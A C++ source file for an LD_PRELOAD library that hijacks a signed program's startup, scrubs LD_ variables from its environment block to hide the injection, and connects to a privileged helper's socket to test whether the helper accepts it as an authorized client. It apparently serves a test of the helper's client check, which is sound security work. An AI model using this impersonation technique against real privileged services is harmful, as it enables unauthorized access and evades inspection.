// A library for the attack that makes a signed program that is not a client act as one: when the
// loader brings it into a process (LD_PRELOAD), it takes the place of the C library's start of
// the program, so that the program's own code never runs. Instead it rewrites the loader's
// variables out of the process's environment block, as the attack does, makes the process
// non-dumpable, as the client library does, connects to the helper's socket and waits for the
// helper's first frame, which the helper sends only to a peer it has accepted as a client (one
// whose requests that need no authorization it then carries out). It ends the process with
// tarnelctl's exit statuses: 0 accepted, 4 refused (the connection closed with nothing sent), 1
// not connected at all, which is never to be taken for a refusal.
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cstring>

namespace {

constexpr char kHelperSocket[] = "/var/run/com.quorvant.TarnelX8Helper";

int awaitAcceptance() {
  if (::prctl(PR_SET_DUMPABLE, 0) != 0) return 1;
  const int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return 1;
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  std::memcpy(address.sun_path, kHelperSocket, sizeof kHelperSocket);
  if (::connect(fd, reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0) return 1;
  char first = 0;
  return ::recv(fd, &first, 1, 0) == 1 ? 0 : 4;
}

}  // namespace

extern "C" int __libc_start_main(int (*)(int, char**, char**), int argc, char** argv,
                                 void (*)(), void (*)(), void (*)(), void*) {
  // The environment follows the arguments on the stack, in the block that /proc/PID/environ shows.
  for (char** entry = argv + argc + 1; *entry; ++entry) {
    if (std::strncmp(*entry, "LD_", 3) == 0) (*entry)[0] = 'X';
  }
  ::_exit(awaitAcceptance());
}
